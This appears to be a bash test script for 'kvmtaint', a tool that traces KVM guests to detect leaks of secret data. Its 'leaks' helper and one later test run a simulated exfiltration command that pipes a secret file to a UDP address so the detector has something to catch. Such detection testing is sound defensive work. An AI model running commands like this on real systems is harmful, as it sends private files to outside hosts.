# SPDX-License-Identifier: GPL-2.0
# shellcheck shell=bash
# In L1: VMs of other shapes, VMs that cannot be traced, and guests whose own tools
# want the functions that kvmtaint traps. Lines as tests/run reads them.
set -u

verdict() { # NAME STATUS WHY
	if [ "$2" = 0 ]; then echo "ok $1"; else echo "not ok $1: $3"; fi
}

start() {
	VMM=$(cat /run/l2/pid)
	kvmtaint --verbose --vm "$VMM" --secret lab=/srv/secret/ >/tmp/records 2>/tmp/stderr &
	kvmtaint=$!
	for ((i = 0; i < 600; i++)); do
		grep -q '"type":"start"' /tmp/records && return
		kill -0 $kvmtaint 2>/dev/null || return 1
		sleep 0.05
	done
	return 1
}

stop() {
	kill -INT $kvmtaint
	wait $kvmtaint
}

# The flow that every shape of VM must show: a leak by UDP.
leaks() {
	start || { echo "not ok $1: $(tail -1 /tmp/stderr)"; return; }
	guest 'mkdir -p /srv/secret; echo x >/srv/secret/a; bash -c "cat /srv/secret/a >/dev/udp/10.9.0.1/9000"'
	sleep 1
	stop
	verdict "$1" $? "$(tail -1 /tmp/stderr)"
	grep -q '"type":"leak"' /tmp/records; verdict "$1-leak" $? "no leak record"
	! grep -q '"type":"lost"' /tmp/records; verdict "$1-nothing-lost" $? "$(grep '"lost"' /tmp/records | head -1 | cut -c1-200)"
}

refused() { # NAME STATUS WORDS
	kvmtaint --no-wait --vm "$(cat /run/l2/pid)" >/tmp/out 2>/tmp/stderr
	[ $? = "$2" ] && [ "$(wc -l </tmp/stderr)" = 1 ] && [ ! -s /tmp/out ] && grep -q "$3" /tmp/stderr
	verdict "$1" $? "$(cat /tmp/stderr)"
}

tracer=/sys/kernel/tracing
guest "mount -t tracefs tracefs $tracer 2>/dev/null; [ -e $tracer/current_tracer ]" || echo "# the guest has no tracefs"

# A second one on the same VM; the first is not disturbed.
start
refused second-kvmtaint 9 "another kvmtaint"
stop; verdict second-leaves-the-first $? "$(tail -1 /tmp/stderr)"

# What a module looks like is learned when it comes.
guest "modprobe -r loop overlay 2>/dev/null"
start
! grep -q 'a module came' /tmp/stderr; verdict no-module-yet $? "$(tail -1 /tmp/stderr)"
guest "modprobe overlay"
for ((i = 0; i < 100; i++)); do
	! grep -q 'a module came' /tmp/stderr || break
	sleep 0.1
done
[ "$i" -lt 100 ]; verdict module-is-learned $? "$(tail -1 /tmp/stderr)"
stop

# The guest's own tools, before: refused, and the guest keeps its tool.
guest "echo security_file_permission >$tracer/set_ftrace_filter; echo function >$tracer/current_tracer"
refused ftrace-before-attach 14 file_permission
guest "echo nop >$tracer/current_tracer; echo >$tracer/set_ftrace_filter"
guest "echo 'p:mine security_socket_sendmsg' >$tracer/kprobe_events && echo 1 >$tracer/events/kprobes/mine/enable"
refused kprobe-before-attach 14 socket_sendmsg
guest "echo 0 >$tracer/events/kprobes/mine/enable; echo >$tracer/kprobe_events"

# After: what the guest's tool sees; the guest and the trace go on.
start; verdict attach-after-the-tools $? "$(tail -1 /tmp/stderr)"
guest "echo 'p:mine security_socket_sendmsg' >$tracer/kprobe_events; echo 1 >$tracer/events/kprobes/mine/enable" >/tmp/kprobe 2>&1
echo "# kprobe on a trapped function: status $?, $(head -1 /tmp/kprobe)"
guest "echo security_file_permission >$tracer/set_ftrace_filter; echo function >$tracer/current_tracer" >/tmp/ftrace 2>&1
echo "# function tracer on a trapped function: status $?, $(head -1 /tmp/ftrace)"
guest "dmesg | tail -40 | grep -iE 'ftrace|kprobe|WARNING' | head -3"
guest 'echo x >/srv/secret/b; bash -c "cat /srv/secret/b >/dev/udp/10.9.0.1/9000"; echo alive' | grep -q alive
verdict guest-lives-with-its-tool $? "the guest does not answer"
stop; verdict detach-with-the-tool $? "$(tail -1 /tmp/stderr)"

l2 stop
echo 1 >/proc/sys/vm/overcommit_memory
if l2 start -m 5120; then leaks ram-above-4-gib; else echo "not ok ram-above-4-gib: the VM did not start"; fi
l2 stop
if l2 start -object memory-backend-memfd,id=ram,size=512M,share=on -machine memory-backend=ram; then leaks shared-memfd; else echo "not ok shared-memfd: the VM did not start"; fi
l2 stop

# No kernel yet: the VM has not run one instruction.
qemu-system-x86_64 -nodefaults -display none -M microvm -accel kvm -m 128 -S -pidfile /run/l2/pid -daemonize \
	-kernel /job/l2/vmlinuz
refused no-kernel-yet 11 "no Linux kernel"
kill "$(cat /run/l2/pid)"
